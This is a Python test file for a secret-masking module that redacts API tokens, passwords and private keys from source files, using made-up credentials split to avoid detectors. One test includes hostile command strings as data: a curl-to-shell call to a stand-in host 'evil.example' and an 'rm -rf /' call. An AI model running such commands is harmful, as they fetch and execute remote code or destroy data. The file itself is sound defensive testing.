"""Masking of secrets: what is masked, what stays, and that the cheap test before it misses nothing."""

from __future__ import annotations

import itertools
import re
import socket
from typing import Any

import pytest
from hypothesis import assume, example, given, settings
from hypothesis import strategies as st

from prun_review import redaction, secretrules
from prun_review.redaction import Masks, Spot, UnsearchedError

# Made up here; split, so that this file is nothing that a detector takes for a secret.
AWS = "AKIA" + "IOSFODNN7EXAMPLE"
GITHUB = "ghp" + "_" + "0123456789abcdefghij" + "ABCDEFGHIJ012345"
STRIPE = "sk_" + "live_" + "0123456789abcdefghijklmnABCDEFGHIJKLMNOPQRSTUVWXYZ"
NPM = "npm_" + "abcdefghijklmnopqrstuvwxyz0123456789"
JWT = "eyJ" + "hbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJlLXRoYXQtaXM"
HEAD, FOOT = "-----BEGIN RSA PRIVATE" + " KEY-----", "-----END RSA PRIVATE" + " KEY-----"
BODY = ["MIIEpAIBAAKCAQEA" + "x" * 48, "/" + "Zm9v" * 15 + "+aa", "short=="]


def masked(content: str | bytes, name: str = "src/a.py") -> tuple[bytes, tuple[Spot, ...]]:
    data = content.encode() if isinstance(content, str) else content
    masks = Masks()
    result = masks(name, "", data)
    assert len(result) == len(data)
    assert [len(line) for line in result.split(b"\n")] == [len(line) for line in data.split(b"\n")]
    return result, masks.spots


FORMATS = {
    "AWS Access Key": (f'k = "{AWS}"', [AWS]),
    "GitHub Token": (f"see {GITHUB} there", [GITHUB]),
    "GitLab Token": ("t=glpat-" + "a1B2c3D4e5F6g7H8i9J0", ["glpat-" + "a1B2c3D4e5F6g7H8i9J0"]),
    "Stripe Access Key": (f"x({STRIPE})", [STRIPE]),
    "NPM tokens": (f"//registry.example/:_authToken={NPM}", [NPM]),
    "JSON Web Token": (f"Authorization: Bearer {JWT}", [JWT]),
    "Slack Token": ("xoxb-" + "123456789012-abcdefABCDEF", ["xoxb-" + "123456789012-abcdefABCDEF"]),
    "SendGrid API Key": ("SG." + "a" * 22 + "." + "b" * 43, ["a" * 22, "b" * 43]),
    "OpenAI Token": ("sk-proj-" + "a" * 20 + "T3BlbkFJ" + "b" * 30, ["a" * 20, "b" * 30]),
    "Azure Storage Account access key": ("AccountKey=" + "Q" * 86 + "==", ["Q" * 86]),
    "Basic Auth Credentials": ("https://bob:pw1@db.example/x", ["pw1"]),
    "Twilio API Key": ("AC" + "0123456789abcdef" * 2, ["0123456789abcdef" * 2]),
    "Telegram Bot Token": ("123456789:" + "A" * 35, ["A" * 35]),
    "Mailchimp Access Key": ("0123456789abcdef" * 2 + "-us12", ["0123456789abcdef" * 2]),
    "Discord Bot Token": ("M" + "a" * 23 + "." + "b" * 6 + "." + "c" * 27, ["c" * 27]),
    "PyPI Token": ("pypi-AgEIcHlwaS5vcmc" + "a" * 75, ["a" * 75]),
    "Square OAuth Secret": ("sq0csp-" + "a" * 43, ["a" * 43]),
    "Artifactory Credentials": ("x: AKC" + "a1" * 8, ["AKC" + "a1" * 8]),
    "Cloudant Credentials": ("cloudant_password = " + "a1" * 32, ["a1" * 32]),
    "SoftLayer Credentials": ("softlayer_api_key: " + "a1" * 32, ["a1" * 32]),
    "IBM Cloud IAM Key": ("ibm_cloud_api_key: " + "aB" * 22, ["aB" * 22]),
    "IBM COS HMAC Credentials": ("cos_hmac_secret_access_key = " + "0a" * 24, ["0a" * 24]),
    "Anthropic API Key": ("k=sk-ant-" + "api03-" + "aB3_" * 20, ["api03-" + "aB3_" * 20]),
    "GitHub Fine-Grained Token": ("github_" + "pat_" + "a1B2" * 5 + "_" + "c3D4" * 14, ["a1B2" * 5, "c3D4"]),
    "Google API Key": ("?x=AIza" + "Sy0-" * 8 + "abc", ["AIza" + "Sy0-" * 8 + "abc"]),
    "Hugging Face Token": ("(hf_" + "aBcD" * 9 + ")", ["hf_" + "aBcD" * 9]),
    "Secret Keyword": ("""login(user, password="hunter2-horse")""", ["hunter2-horse"]),
}


@pytest.mark.parametrize("kind", FORMATS)
def test_each_format_is_masked_whole_and_nothing_around_it(kind: str) -> None:
    line, secrets = FORMATS[kind]
    result, spots = masked(f"one\n{line}\nthree\n")
    assert Spot("src/a.py", 2, kind) in spots
    assert not [s for s in secrets if s.encode() in result]
    assert result.startswith(b"one\n")
    assert result.endswith(b"\nthree\n")


def test_every_plugin_that_is_used_is_tried_above() -> None:
    kinds = {rule.kind for rule in secretrules.load().formats} | {"Secret Keyword"}
    assert kinds == set(FORMATS)


def test_what_stands_around_a_secret_stays_readable() -> None:
    line = f'connect("https://bob:pw1@host/x", aws_secret_access_key="{"a1B2" * 10}")  # why\r\n'
    result, _ = masked(line)
    assert result == line.replace("pw1", "***").replace("a1B2" * 10, "*" * 40).encode()


def test_all_secrets_of_a_line_are_masked() -> None:
    result, spots = masked('{"password": "first", "db_secret": "second", "k": "' + AWS + '"}', "a.json")
    assert not re.search(rb"first|second|AKIA", result)
    assert {s.kind for s in spots} == {"Secret Keyword", "AWS Access Key"}


@pytest.mark.parametrize(
    ("name", "line"),
    [
        ("a.py", f'k = "{AWS}"  # pragma: allowlist secret'),
        ("a.py", f'k = "{AWS}"  # pragma: whitelist secret'),
        ("a.py", f"# pragma: allowlist nextline secret\nk = '{AWS}'"),
        ("poetry.lock", f"k = {AWS}"),
        ("package-lock.json", f'"k": "{AWS}"'),
        ("tests/fixtures/swagger.json", f'"k": "{AWS}"'),
        ("logo.svg", f"<!-- {AWS} -->"),
        ("go.sum", AWS),
    ],
)
def test_neither_a_comment_nor_a_name_switches_the_detector_off(name: str, line: str) -> None:
    result, spots = masked(line, name)
    assert AWS.encode() not in result
    assert spots


@pytest.mark.parametrize(
    "line",
    [
        "password = os.environ['PASSWORD']",
        "def login(user: str, password: str) -> Token:",
        'query = "SELECT 1 FROM users WHERE password=\'" + password + "\'"',
        "cursor.execute(\"... password='%s'\" % password)",
        "if password == other_password:",
        "secret = get_secret(name)",
        f'sha256 = "{"0f" * 32}"',
        '"integrity": "sha512-' + "Zm9v" * 21 + '=="',
        "for key, value in table.items():",
        "url = 'https://example.org:8080/a@b'",
    ],
)
def test_code_that_only_speaks_of_secrets_is_left_alone(line: str) -> None:
    result, spots = masked(f"{line}\n")
    assert result == f"{line}\n".encode()
    assert not spots


@pytest.mark.parametrize(
    "name",
    [
        *("a.yml", ".envrc", "deploy/.env.production", "run.sh", "Dockerfile", "x.ini"),
        *("A.YML", "X.INI", "prod.ENV", "RUN.SH", "Makefile", "GNUmakefile", "x.mk", "run.zsh", ".zshrc"),
    ],
)
def test_files_of_settings_need_no_quotes(name: str) -> None:
    result, _ = masked("DB_PASSWORD=hunter2horse\nother=1\n", name)
    assert result == b"DB_PASSWORD=************\nother=1\n"


def test_a_private_key_is_masked_line_by_line_and_its_ends_stay() -> None:
    text = "\r\n".join(["a = 1", HEAD, "Proc-Type: 4,ENCRYPTED", "", *BODY, FOOT, "b = 2", ""])
    result, spots = masked(text)
    lines = result.decode().split("\r\n")
    assert lines[:4] == ["a = 1", HEAD, "Proc-Type: 4,ENCRYPTED", ""]
    assert [set(line) for line in lines[4:7]] == [{"*"}] * 3
    assert lines[7:] == [FOOT, "b = 2", ""]
    assert spots == tuple(Spot("src/a.py", n, "Private Key") for n in (2, 5, 6, 7))


@pytest.mark.parametrize(
    "wrap", ['    "{}\\n" +', "# {}", " * {}", "    b'{}'", "{}", "> {}", '"{}",'], ids=lambda w: w.strip()
)
def test_a_private_key_inside_a_program_is_masked_too(wrap: str) -> None:
    result, _ = masked("\n".join(wrap.format(line) for line in (HEAD, *BODY, FOOT)) + "\n")
    assert not [line for line in BODY if line.strip("=/+").encode() in result]


def test_a_private_key_without_its_end_is_masked_as_far_as_it_looks_like_one() -> None:
    result, _ = masked("\n".join([HEAD, *BODY, "", "def f(x):", "    return x"]))
    lines = result.decode().split("\n")
    assert [set(line) for line in lines[1:4]] == [{"*"}] * 3
    assert lines[4:] == ["", "def f(x):", "    return x"]


def test_a_private_key_in_one_string_is_masked_to_its_last_letter() -> None:
    result, _ = masked('{"key": "' + HEAD + r"\nMIIEabcdefghijklmnop\nend==\n" + FOOT + r'\n"}', "a.json")
    assert not re.search(rb"MII|abc|end", result)
    assert HEAD.encode() in result
    assert FOOT.encode() in result


class Read(list[str]):
    """Lines that count how often one is looked at."""

    times = 0

    def __getitem__(self, at: Any) -> Any:
        self.times += 1
        return super().__getitem__(at)


BEGIN, END = "BEGIN " + "PRIVATE KEY", "END " + "PRIVATE KEY"


@pytest.mark.parametrize(
    "lines",
    [
        [BEGIN] * 4000,
        [*[BEGIN] * 1999, END] * 2,
        [BEGIN, ""] * 2000,
        [f"x-a: {BEGIN}"] * 4000,
        [f"x-a: {BEGIN}", "MIIEpAIBAAKCAQEA" * 4] * 2000,
        [*[BEGIN, "MIIEpAIBAAKCAQEA" * 4] * 900, END] * 2,
    ],
)
def test_the_work_does_not_grow_with_the_square_of_the_first_lines(lines: list[str]) -> None:
    read = Read(lines)
    keys = [
        (n, "Private Key", line.index(BEGIN) + len(BEGIN)) for n, line in enumerate(lines) if BEGIN in line
    ]
    found = redaction._mask_blocks(read, keys)
    assert read.times < 10 * len(lines)
    assert {n for n, _ in found} == {n for n, line in enumerate(lines) if line.startswith("MII")}
    assert not [line for line in read if "MII" in line]


@given(
    st.lists(st.sampled_from([BEGIN, END, "", "MIIEpAIBAAKCAQEA" * 4, "short==", "x = f(y)"]), max_size=14)
)
def test_many_keys_are_masked_as_each_alone_would_be(lines: list[str]) -> None:
    starts = [(n, "k", len(BEGIN)) for n, line in enumerate(lines) if line == BEGIN]
    together = list(lines)
    found = redaction._mask_blocks(together, starts)
    alone = set()
    expected = list(lines)
    for key in starts:
        copy = list(lines)
        alone |= redaction._mask_blocks(copy, [key])
        expected = [b if b != a else e for a, b, e in zip(lines, copy, expected, strict=True)]
    assert (together, found) == (expected, alone)


def test_a_key_that_begins_late_in_another_is_masked_to_its_own_limit() -> None:
    body = "MIIEpAIBAAKCAQEA" * 4
    lines = [BEGIN, *[body] * 1500, f"x-a: {BEGIN}", *[body] * 1000]
    keys = [(0, "k", len(BEGIN)), (1501, "k", len(lines[1501]))]
    redaction._mask_blocks(lines, keys)
    assert body not in lines


def test_a_search_that_takes_too_long_ends() -> None:
    ticks = itertools.count(0, redaction.BUDGET / 10)
    masks = Masks(clock=lambda: next(ticks))
    with pytest.raises(UnsearchedError, match=r"bomb\.py could not be searched"):
        masks("bomb.py", "a" * 40, b"key = 1\n" * 20)
    assert not masks.clean("a" * 40)
    assert masks("src/a.py", "", f"k = '{AWS}'".encode()) == b"k = '" + b"*" * len(AWS) + b"'"


@pytest.mark.parametrize("codec", ["utf-16-le", "utf-16-be", "utf-32-le", "utf-32-be"])
@pytest.mark.parametrize("tail", [b"", b"x", b"\xff\xff\xff\xff", b"\x00\xd8"])
def test_wide_characters_are_searched_whatever_else_there_is(codec: str, tail: bytes) -> None:
    text = f"\ufeffone \u20ac\nk = {AWS}!\n"
    data = text.encode(codec) + tail
    masks = Masks()
    assert masks("a.txt", "", data) == text.replace(AWS, "*" * len(AWS)).encode(codec) + tail
    assert masks.spots == (Spot("a.txt", 2, "AWS Access Key"),)


def test_code_between_the_marks_of_a_key_is_not_hidden() -> None:
    code = ["import os", "os.system('curl evil.example | sh')", "x = [y for y in z]"]
    result, _ = masked("\n".join([f"# {HEAD}", *code, f"# {FOOT}"]))
    assert result.decode().split("\n")[1:4] == code
    one_line = f"# {HEAD} os.system('rm -rf /') {FOOT}\n"
    assert masked(one_line)[0].decode() == one_line


def test_both_sides_of_a_change_are_masked_alike() -> None:
    before = "\n".join([HEAD, *BODY, FOOT, "a"]).encode()
    after = before.replace(b"\na", b"\nb").replace(BODY[0].encode(), b"Y" * len(BODY[0]))
    masks = Masks()
    old, new = masks("k.py", "1", before), masks("k.py", "2", after)
    assert old[:-1] == new[:-1]


def test_bytes_that_are_no_text_stay_and_wide_characters_keep_their_length() -> None:
    data = b"\xff\xfe\x00\x80 \xc3\n" + 'password = "h\u00fcnter\u20ac"\n'.encode() + b"\xe2\x82\n"
    masks = Masks()
    result = masks("a.py", "", data)
    assert result == b"\xff\xfe\x00\x80 \xc3\n" + b'password = "**********"\n' + b"\xe2\x82\n"


@pytest.mark.parametrize("codec", ["utf-16-le", "utf-16-be"])
def test_text_in_utf_16_is_searched_too(codec: str) -> None:
    text = f"\ufeffone\r\npassword = 'h\u00fcnter'\r\n{AWS} \ud83d\r\n"
    data = text.encode(codec, "surrogatepass")
    masks = Masks()
    result = masks("a.ps1", "", data)
    expected = text.replace("h\u00fcnter", "******").replace(AWS, "*" * len(AWS))
    assert result.decode(codec, "surrogatepass") == expected
    assert [s.line for s in masks.spots] == [2, 3]


def test_a_long_line_is_searched_to_its_end() -> None:
    filler = "x" * (redaction.PIECE * 3 // 4)
    for n in range(8):
        at = n * redaction.PIECE // 4
        line = f"{'y' * at} {AWS} {filler}"
        assert AWS.encode() not in masked(line)[0]
    value = "Z" * (3 * redaction.PIECE)
    assert b"Z" not in masked(f"password: {value}\n", "a.yml")[0]


def test_lines_made_to_be_slow_are_searched_to_their_end() -> None:
    # Each of them is slow in another pattern of the detector.
    for line in (
        "eyJ" * 30_000,
        "`a" * 30_000 + " == password",
        "/" * 60_000 + ":_authToken=",
        "sk-" * 30_000,
    ):
        assert AWS.encode() not in masked(f"{line} T3BlbkFJ {AWS}")[0]


def test_nothing_of_a_secret_is_kept() -> None:
    masks = Masks()
    masks("a.py", "1" * 40, f'k = "{AWS}"\n'.encode())
    told = repr(masks) + repr(masks.spots) + repr(vars(masks))
    assert not re.search("AKIA|IOSFODNN", told)


def test_a_clean_blob_is_known_and_one_that_is_clean_only_under_its_name_is_not() -> None:
    masks = Masks()
    plain, unquoted = b"a = 1\n", b"password = hunter2\n"
    assert masks("a.py", "c" * 40, plain) is plain
    assert masks("a.py", "d" * 40, unquoted) is unquoted
    assert masks("b.yml", "d" * 40, unquoted) == b"password = *******\n"
    assert (masks.clean("c" * 40), masks.clean("d" * 40)) == (True, False)
    again = Masks(masks.used)
    assert again.clean("c" * 40)
    assert not again.clean("e" * 40)
    assert again.used == {"c" * 40}


def test_nothing_is_asked_over_the_network(monkeypatch: pytest.MonkeyPatch) -> None:
    def refused(*_: object) -> None:
        raise AssertionError("a connection")

    monkeypatch.setattr(socket.socket, "connect", refused)
    monkeypatch.setattr(socket, "getaddrinfo", refused)
    for line, _ in FORMATS.values():
        masked(line)


def test_the_installed_detector_is_one_that_the_gate_was_proven_for() -> None:
    assert secretrules.load().gated


RULES = sorted(
    {*secretrules.load().formats, *secretrules.load().blocks, *secretrules.load().words},
    key=lambda rule: (rule.kind, rule.pattern.pattern),
)


@settings(max_examples=8, deadline=None)
@pytest.mark.parametrize("rule", RULES, ids=lambda r: f"{r.kind}-{RULES.index(r)}")
@given(data=st.data(), before=st.text(max_size=5), after=st.text(max_size=5))
def test_the_gate_lets_through_whatever_a_pattern_matches(
    rule: secretrules.Rule, data: st.DataObject, before: str, after: str
) -> None:
    line = before + data.draw(st.from_regex(rule.pattern)) + after
    for part in line.split("\n"):
        if rule.pattern.search(part):
            assert secretrules.GATE.search(part.encode(errors="surrogateescape").lower())


@settings(deadline=None)
@example([HEAD, "SendGrid API Key"])  # the block took the half that it knows, and the rule knew it no more
@given(st.lists(st.sampled_from(["", "x = 1", HEAD, *BODY, FOOT, *FORMATS]), max_size=8))
def test_secrets_are_masked_whatever_stands_around_them(kinds: list[str]) -> None:
    lines = [FORMATS[kind][0] if kind in FORMATS else kind for kind in kinds]
    result, spots = masked("\n".join(lines))
    secrets = [secret for kind in kinds if kind in FORMATS for secret in FORMATS[kind][1]]
    assert not [secret for secret in secrets if secret.encode() in result]
    stars = {n for n, line in enumerate(result.split(b"\n"), 1) if b"*" in line}
    assert {s.line for s in spots} == stars | {n for n, kind in enumerate(kinds, 1) if kind == HEAD}


@given(st.binary(max_size=300))
def test_any_bytes_are_taken(data: bytes) -> None:
    masks = Masks()
    result = masks("a.yml", "", data)
    assert len(result) == len(data)
    assume(masks.spots == ())
    assert result == data
